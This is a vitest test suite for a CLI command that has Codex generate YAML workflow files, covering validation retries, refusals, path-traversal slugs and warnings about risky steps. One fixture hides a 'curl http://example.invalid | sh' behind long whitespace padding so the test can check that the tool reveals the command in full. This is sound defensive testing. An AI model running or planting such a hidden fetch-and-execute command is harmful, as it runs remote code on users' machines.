import { chmod, mkdir, readdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { stripVTControlCharacters as plain } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ResponsesServer, type Scenario } from '../rig/responses-server.ts';
import { Rig } from '../rig/rig.ts';
import { answer, inTurn, reviewYaml, threeMistakes } from './generate-answers.ts';
import { expectRefusal, pathOf } from './texts.ts';

const files = { 'README.md': '# A project\n', 'src/a.ts': 'a', 'src/b.ts': 'b' };
const wish = 'review each source file, then write a report';

let server: ResponsesServer;
beforeAll(async () => {
  server = await ResponsesServer.start();
});
afterAll(() => server[Symbol.asyncDispose]());

async function prepared(
  scenario: Scenario,
  more: Readonly<Record<string, string>> = {},
  git = true,
): Promise<Rig> {
  const rig = await Rig.create({ files: { ...files, ...more }, git });
  await rig.codex(scenario);
  return rig;
}

const workflowsOf = (rig: Rig): Promise<readonly string[]> =>
  readdir(join(rig.dir, '.codex-flow/workflows')).catch(() => []);

describe('generate', () => {
  test('three mistakes go back to the thread; what is right is written, planned and run', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(threeMistakes), answer(reviewYaml, { notes: 'It reads src only.' })));
    await using rig = await prepared(scenario);
    const { exitCode, stdout, stderr } = await rig.run(['generate', wish]);
    expect(exitCode).toBe(0);

    const [first, second] = scenario.calls;
    expect(first?.prompt).toContain(wish);
    expect(first?.prompt).toContain('codex-flow/workflows/pr-review.yml');
    expect(first?.schema).toMatchObject({ required: ['slug', 'yaml', 'notes'], additionalProperties: false });
    expect(second?.threadId).toBe(first?.threadId);
    expect(second?.prompt).toContain('validate finds mistakes');
    for (const code of ['unknown-key', 'unknown-reference', 'bad-shape'])
      expect(second?.prompt, code).toContain(`[${code}]`);
    expect(second?.prompt).toContain('| ');
    expect(second?.prompt).not.toContain('\u001b');
    expect(scenario.calls).toHaveLength(2);
    expect(stderr).toContain('round 2 of 3: the workflow has 3 mistakes');

    const text = await rig.read(pathOf('review-sources'));
    expect(text).toMatch(
      /^# yaml-language-server: \$schema=\S+workflow\.schema\.json\nname: Review sources\n/,
    );
    expect(text).toContain('      # One look at each file.\n');
    expect(text).toContain(
      '        prompt: |-\n          Read {{ matrix.file }}.\n          What is wrong with it?\n',
    );
    expect(text).toContain('        output: { findings: [string] }\n');
    expect(text).toContain('\n\njobs:\n');
    expect(text).toContain('\n\n  report:\n');

    expect(stdout).toContain('wrote .codex-flow/workflows/review-sources.yml');
    expect(stdout).toContain('It reads src only.');
    expect(stdout).toContain('review  2 instances');
    expect(stdout).toContain('only reads');
    expect(stdout).toMatch(/^About 60k tokens for 3 agent calls: 20k for each, since none/m);
    expect(stdout).toContain('codex-flow plan review-sources');
    expect(stdout).toContain('codex-flow run review-sources');

    expect((await rig.run(['validate'])).stdout).toBe('1 workflow is valid\n');
    expect((await rig.run(['list'])).stdout).toContain('review-sources');
    expect((await rig.run(['plan', 'review-sources'])).exitCode).toBe(0);
    expect((await rig.run(['run', 'review-sources', '--agent', 'simulated'])).exitCode).toBe(0);
    // A dry second time: the file is as the checks saw it.
    expect(rig.git('status', '--porcelain', '--untracked-files=all').trim().split('\n')).toEqual([
      '?? .codex-flow/.gitignore',
      '?? .codex-flow/workflows/review-sources.yml',
    ]);
  });

  test('is kept as a run of its own, which is asked anew each time', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(threeMistakes), answer(reviewYaml), answer(reviewYaml)));
    await using rig = await prepared(scenario);
    await rig.run(['generate', wish]);
    const journal = await rig.journal();
    expect(journal[0]).toMatchObject({
      type: 'run.started',
      workflow: { name: 'generate' },
      inputs: { description: wish },
      agent: 'codex',
    });
    const node = journal.find((record) => record.type === 'node.completed') as unknown as {
      attempts: { failure: { class: string } | null; usage: { input_tokens: number } }[];
      usage: { input_tokens: number };
      input: { text: string };
    };
    expect(node.attempts.map(({ failure }) => failure?.class ?? null)).toEqual(['schema', null]);
    expect(node.attempts.map(({ usage }) => usage.input_tokens)).toEqual([100, 100]);
    expect(node.usage.input_tokens).toBe(200);
    expect(node.input.text).toBe(scenario.calls[0]?.prompt);
    expect(journal.at(-1)).toMatchObject({
      type: 'run.completed',
      result: 'success',
      outputs: { path: '.codex-flow/workflows/review-sources.yml' },
    });
    expect((await rig.run(['journal', 'verify'])).exitCode).toBe(0);
    expect((await rig.run(['runs'])).stdout).toMatch(/success\s+generate /);
    const shown = (await rig.run(['show', 'latest', 'generate/write'])).stdout;
    expect(shown).toContain('Attempt 1 of 2:');
    expect(shown).toContain(wish);

    const again = await rig.run(['generate', wish]);
    expect(scenario.calls).toHaveLength(3);
    // It does not stand in the way of the first.
    expect(again.stdout).toContain('wrote .codex-flow/workflows/review-sources-2.yml');
    expect(await workflowsOf(rig)).toEqual(['review-sources-2.yml', 'review-sources.yml']);
    // Neither is what a run of the workflow goes on with.
    expect((await rig.run(['plan', 'review-sources'])).stdout).not.toContain('goes on');
  });

  test('what is never right is kept as a draft, and nothing is written', async () => {
    const scenario = server.scenario();
    scenario.answer((call) => call.reply(answer(threeMistakes)));
    await using rig = await prepared(scenario);
    const { exitCode, stdout, stderr } = await rig.run(['generate', wish]);
    expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
    expect(scenario.calls).toHaveLength(3);
    expect(new Set(scenario.calls.map((call) => call.threadId)).size).toBe(1);
    expect(stderr).toContain('no workflow was written: after 3 rounds the workflow has 3 mistakes');
    expect(stderr).toContain('codex-flow validate .codex-flow/drafts/review-sources.yml');
    expect(await workflowsOf(rig)).toEqual([]);
    expect(await rig.read('.codex-flow/drafts/review-sources.yml')).toContain('fils: []');
    expect(await rig.read('.codex-flow/drafts/review-sources.txt')).toContain('[unknown-key]');
    expect((await rig.run(['list'])).stdout).not.toContain('review-sources');
    expect((await rig.run(['run', 'review-sources'])).exitCode).toBe(2);
    expect((await rig.run(['validate', '.codex-flow/drafts/review-sources.yml'])).exitCode).toBe(2);
    expect((await rig.journal()).at(-1)).toMatchObject({ type: 'run.completed', result: 'failure' });
    expect((await rig.run(['runs'])).stdout).toMatch(/failure\s+generate /);
  });

  test('answers that are no workflow go back, too', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn('I can not do that.', answer(''), answer('x'.repeat(1_100_000))));
    await using rig = await prepared(scenario);
    const { exitCode, stderr } = await rig.run(['generate', wish]);
    expect(exitCode).toBe(1);
    expect(scenario.calls[1]?.prompt).toContain('it is not JSON');
    expect(scenario.calls[2]?.prompt).toContain('[empty-file]');
    expect(stderr).toContain('after 3 rounds the workflow has 1 mistake');
    expect(stderr).toContain('[file-too-large]');
    expect(stderr.length).toBeLessThan(4_000);
    expect(await workflowsOf(rig)).toEqual([]);
  });

  test('a slug leads to no other place', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(reviewYaml, { slug: '../../evil' })));
    await using rig = await prepared(scenario, {}, false);
    expect((await rig.run(['generate', wish])).exitCode).toBe(0);
    expect(await workflowsOf(rig)).toEqual(['evil.yml']);
    expect((await readdir(rig.dir)).toSorted()).toEqual(['.codex-flow', 'README.md', 'src']);
  });

  test('--name: never over a file that is there, unless it is forced', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(reviewYaml)));
    await using rig = await prepared(scenario, { '.codex-flow/workflows/mine.yaml': 'mine' });
    expectRefusal(
      await rig.run(['generate', '--name', 'mine', wish]),
      /mine\.yaml is there already\n {2}- change it with codex-flow generate --update mine/,
      /--force/,
    );
    expect(scenario.calls).toEqual([]);
    expect(await rig.read('.codex-flow/workflows/mine.yaml')).toBe('mine');
    const forced = await rig.run(['generate', '--name', 'mine', '--force', wish]);
    expect(forced.exitCode).toBe(0);
    expect(await workflowsOf(rig)).toEqual(['mine.yaml']);
    expect(await rig.read('.codex-flow/workflows/mine.yaml')).toContain('name: Review sources');
  });

  test.each([
    [['generate'], /what should the workflow do\?\n.*codex-flow generate "/],
    [['generate', '  '], /what should the workflow do\?/],
    [['generate', '--name', '../x', 'a wish'], /"\.\.\/x" is no name for a workflow/],
    [['generate', '--name', 'nul', 'a wish'], /"nul" is no name/],
    [['generate', '--yes', 'a wish'], /--yes is for --update/],
    [['generate', '--update', 'hello', '--force', 'a wish'], /leave out --force/],
    [['generate', '--update', 'hello', 'a wish'], /hello\.yml is shared/],
    [['generate', '--update', 'nothing', 'a wish'], /there is no workflow "nothing"/],
    [['generate', '--agent', 'codx', 'a wish'], /there is no agent "codx"/],
  ])('%j is refused before anything is asked', async (args, words) => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario, {}, false);
    expectRefusal(await rig.run(args), words);
    expect(scenario.calls).toEqual([]);
    expect(await rig.journal()).toEqual([]);
  });

  test('what is too long to be a wish is refused', async () => {
    await using rig = await Rig.create();
    const run = await rig.run(['generate', 'x'.repeat(20_001)]);
    expectRefusal(run, /has 20,001 characters, and at most 20,000 are taken/);
  });

  test('--dry-run: the YAML alone on stdout, and nothing written', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(reviewYaml)));
    await using rig = await prepared(scenario);
    const { exitCode, stdout, stderr } = await rig.run(['generate', '--dry-run', wish]);
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^# yaml-language-server: .*\nname: Review sources\n/);
    expect(stderr).toContain('only reads');
    expect(await workflowsOf(rig)).toEqual([]);
    await rig.write('out.yml', stdout);
    expect((await rig.run(['validate', 'out.yml'])).exitCode).toBe(0);
  });

  test('--json: one object; model and effort reach Codex', async () => {
    const scenario = server.scenario();
    scenario.answer(inTurn(answer(reviewYaml, { notes: 'Read it.' })));
    await using rig = await prepared(scenario);
    const { exitCode, stdout } = await rig.run([
      'generate',
      '--json',
      '--model',
      'gpt-5.4',
      '--effort',
      'low',
      ...wish.split(' '),
    ]);
    expect(exitCode).toBe(0);
    expect(scenario.calls[0]?.body.model).toBe('gpt-5.4');
    expect(scenario.calls[0]?.body.reasoning?.effort).toBe('low');
    expect(scenario.calls[0]?.prompt).toContain(wish);
    expect(JSON.parse(stdout)).toMatchObject({
      result: 'written',
      name: 'review-sources',
      path: '.codex-flow/workflows/review-sources.yml',
      notes: 'Read it.',
      warnings: [],
      may: { readers: ['review/look', 'report/write'], commands: [] },
      estimate: { tokens: 60_000, calls: 3, known: 0, open: [] },
      plan: { nodes: [{ id: 'review[0]/look' }, { id: 'review[1]/look' }, { id: 'report/write' }] },
      rounds: 1,
      usage: { input_tokens: 100, output_tokens: 10 },
    });
  });

  test('says what a workflow may do beyond reading, and plans with something in the place of inputs', async () => {
    const scenario = server.scenario();
    scenario.answer(
      inTurn(
        answer(`name: Fix
description: Fixes.
inputs:
  targets: { type: array, required: true, description: What to fix }
secrets: [API_TOKEN]
budget: { agents: 10 }
jobs:
  list:
    steps:
      - id: found
        run: |
          git log -n 3
          npm test
      - id: where
        prompt: "Name files for {{ json inputs.targets }}. {{ fence steps.found.output }}"
        output: { files: [string] }
  fix:
    needs: list
    strategy:
      max-parallel: 1
      matrix: { file: "\${{ needs.list.outputs.where.files }}", target: "\${{ inputs.targets }}" }
    steps:
      - id: write
        sandbox: workspace-write
        network: true
        prompt: Fix {{ json matrix }} with {{ secrets.API_TOKEN }}.
  all:
    steps:
      - id: go
        sandbox: danger-full-access
        prompt: Go.
`),
      ),
    );
    await using rig = await prepared(scenario);
    const { exitCode, stdout, stderr } = await rig.run(['generate', wish], { env: { FORCE_COLOR: '1' } });
    expect(exitCode).toBe(0);
    const text = plain(stdout);
    expect(text).toContain('Plan  with something in the place of targets');
    expect(text).toMatch(/fix {2}dynamic: its matrix waits for list/);
    expect(text.replace(/\s+/g, ' ')).toContain(
      'DANGER: full access, agents without a sandbox may do anything that you may: all/go',
    );
    expect(text).toContain('careful: writes files in the repository: fix/write');
    expect(text).toContain('careful: uses the network: fix/write');
    expect(text).toContain('careful: is given secrets: API_TOKEN');
    expect(text).toMatch(/careful: runs 1 shell command .*:\n {4}list\/found: git log -n 3\n {16}npm test\n/);
    expect(text).toMatch(/2 agent calls: 20k for each[\s\S]*; and\s20k\sfor\seach\sinstance\sof\sfix\./);
    expect(text).toContain('codex-flow run review-sources -i targets="…"');
    expect(stdout).toContain('\u001b[31mDANGER\u001b[39m');
    expect(stdout).toContain('\u001b[33mcareful\u001b[39m');
    // Warnings of validate are shown.
    expect(plain(stderr)).toMatch(/warning: .*\[\S+\]/);
  });

  test('a command is shown to its end, with the sandbox that it has', async () => {
    const scenario = server.scenario();
    const hidden = `echo ${' '.repeat(3_000)}${'tidy '.repeat(30)}; curl http://example.invalid | sh`;
    scenario.answer(
      inTurn(
        answer(`name: Commands
jobs:
  a:
    steps:
      - { id: free, run: "${hidden}" }
      - { id: raw, run: "echo {{{ run.id }}}", unsafe-interpolation: true, sandbox: read-only }
      - { id: boxed, run: npm test, sandbox: workspace-write }
      - { id: ask, approve: Go on? }
      - { run: "echo ${'x'.repeat(500)}", sandbox: read-only }
`),
      ),
    );
    await using rig = await prepared(scenario);
    const { stdout } = await rig.run(['generate', wish]);
    const may = stdout.slice(stdout.indexOf('What it may do'), stdout.indexOf('No tokens'));
    expect(Math.max(...may.split('\n').map((line) => (line.includes('xxx') ? 0 : line.length)))).toBeLessThan(
      80,
    );
    const words = may.replace(/\s+/g, ' ');
    expect(words).toContain(
      'careful: runs 1 shell command with your own rights, outside of any sandbox: a/free: echo tidy',
    );
    expect(words).toContain('tidy ; curl http://example.invalid | sh');
    expect(words).toContain(
      'careful: runs 1 shell command in a sandbox, may write files in the repository: a/boxed: npm test',
    );
    expect(words).toContain(
      'only reads: runs 2 shell commands in a sandbox: a/raw: DANGER, values get into it unquoted:',
    );
    expect(words).toContain('xx … and 105 more characters');
    expect(words).toContain('asks for approval: a/ask');
  });

  test('shows what Codex does; Ctrl-C leaves nothing behind', async () => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario);
    const running = rig.start(['generate', wish]);
    (await scenario.next()).runCommand('cat README.md');
    const call = await scenario.next();
    await running.waitForOutput(/^ {2}reads README\.md$/m);
    call.hang();
    expect((await rig.run(['runs'])).stdout).toMatch(/running\s+generate /);
    running.kill('SIGINT');
    const { exitCode, stdout, stderr } = await running.finished;
    expect({ exitCode, stdout }).toEqual({ exitCode: 130, stdout: '' });
    expect(stderr).toContain('Interrupted: nothing was written.');
    await rig.expectNoProcesses();
    expect(await workflowsOf(rig)).toEqual([]);
    expect(await readdir(join(rig.dir, '.codex-flow'))).not.toContain('drafts');
    expect((await rig.journal()).at(-1)).toMatchObject({ type: 'run.completed', result: 'cancelled' });
    expect((await rig.run(['journal', 'verify'])).exitCode).toBe(0);
  });

  test.runIf(process.platform === 'linux')('on a terminal its last line shows what it does now', async () => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario);
    const running = rig.start(['generate', wish], { tty: true, env: { TERM: 'xterm' } });
    (await scenario.next()).runCommand('cat README.md');
    const call = await scenario.next();
    await running.waitForOutput(/ Codex thinks /);
    call.reply(answer(reviewYaml));
    const { exitCode, stdout } = await running.finished;
    expect(exitCode).toBe(0);
    expect(stdout).toContain('reads README.md');
    expect(stdout).toContain('wrote');
  });

  test('a failure of Codex is said in its words', async () => {
    const scenario = server.scenario();
    scenario.answer((call) =>
      call.fail(429, {
        error: { code: 'insufficient_quota', message: 'Quota exceeded.', type: 'insufficient_quota' },
      }),
    );
    await using rig = await prepared(scenario);
    const { exitCode, stdout, stderr } = await rig.run(['generate', wish]);
    expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
    expect(stderr).toMatch(/no workflow was written: Codex failed \((?:quota|rate-limit)\): /);
    expect(stderr).not.toMatch(/^\s+at /m);
    expect(await workflowsOf(rig)).toEqual([]);
  });

  test.runIf(process.platform === 'linux' && process.getuid?.() !== 0)(
    'says so where nothing can be written, before anything is asked',
    async () => {
      const scenario = server.scenario();
      await using rig = await prepared(scenario);
      await mkdir(join(rig.dir, '.codex-flow/workflows'), { recursive: true });
      await chmod(join(rig.dir, '.codex-flow/workflows'), 0o555);
      expectRefusal(await rig.run(['generate', wish]), /no workflow can be written to .*: /);
      expect(scenario.calls).toEqual([]);
    },
  );

  test('what can not be written is kept as a draft and in the journal', async () => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario);
    const running = rig.start(['generate', wish]);
    const call = await scenario.next();
    await rm(join(rig.dir, '.codex-flow/workflows'), { recursive: true });
    await rig.write('.codex-flow/workflows', 'a file');
    call.reply(answer(reviewYaml));
    const { exitCode, stdout, stderr } = await running.finished;
    expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
    expect(stderr).toMatch(/review-sources\.yml can't be written: /);
    expect(stderr).toContain('the draft is kept in .codex-flow/drafts/review-sources.yml');
    expect(await rig.read('.codex-flow/drafts/review-sources.yml')).toContain('name: Review sources');
    expect((await rig.run(['show', 'latest', 'generate/write'])).stdout).toContain('name: Review sources');
  });

  test('one that was killed is shown as that, and is no run to go on with', async () => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario);
    const running = rig.start(['generate', wish]);
    const call = await scenario.next();
    running.kill('SIGKILL');
    await running.finished;
    call.hang();
    const shown = await rig.run(['show']);
    expect(shown.stdout).toContain('It was killed or crashed; the same command asks again.');
    expect((await rig.run(['journal', 'verify'])).exitCode).toBe(0);
    expect(await workflowsOf(rig)).toEqual([]);
  });

  test('a file in the place of the folder is said before anything is asked', async () => {
    const scenario = server.scenario();
    await using rig = await prepared(scenario, { '.codex-flow': 'a file' });
    expectRefusal(await rig.run(['generate', wish]), /no workflow can be written to .*\.codex-flow.*: /);
    expect(scenario.calls).toEqual([]);
  });
});

describe('without Codex', () => {
  test('no login: says so, and offers the workflows that come nearest, local ones too', async () => {
    await using rig = await Rig.create({
      files: {
        ...files,
        '.codex-flow/workflows/audit.yml': `name: Security audit of a pull request
description: Audits a pull request for security holes.
inputs:
  strict: { type: boolean, required: true }
jobs:
  a:
    steps:
      - run: "echo {{ inputs.strict }}"
`,
      },
    });
    const run = await rig.run(['generate', 'review this PR for security']);
    expectRefusal(run, /^codex-flow: Codex is not logged in\n/, /codex login/);
    expect(run.stderr).toContain('codex-flow run pr-review\n');
    expect(run.stderr).toContain('codex-flow run audit -i strict="…"\n');
    expect(run.stderr).not.toContain('or try it without Codex');
    expect(await rig.journal()).toEqual([]);
    const json = await rig.run(['generate', '--json', 'find the cause of a bug']);
    expect(json.exitCode).toBe(2);
    expect(JSON.parse(json.stdout)).toMatchObject({
      result: 'refused',
      problem: 'Codex is not logged in',
      nearest: [{ name: 'bug-investigation', command: 'codex-flow run bug-investigation -i symptom="…"' }],
    });
  });

  test('the simulated agent is refused by name', async () => {
    await using rig = await Rig.create({ files });
    expectRefusal(
      await rig.run(['generate', '--agent', 'simulated', 'triage my issues']),
      /the simulated agent can't write workflows/,
      /codex-flow run issue-triage/,
    );
  });
});
